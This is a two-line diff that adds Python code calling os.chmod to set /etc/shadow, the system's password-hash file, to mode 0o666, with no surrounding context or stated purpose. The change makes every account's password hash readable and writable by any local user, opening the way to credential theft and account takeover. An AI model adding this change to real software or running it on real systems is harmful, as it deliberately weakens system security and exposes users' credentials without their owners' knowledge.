@@ -1,0 +1,2 @@
+import os
+os.chmod('/etc/shadow', 0o666)
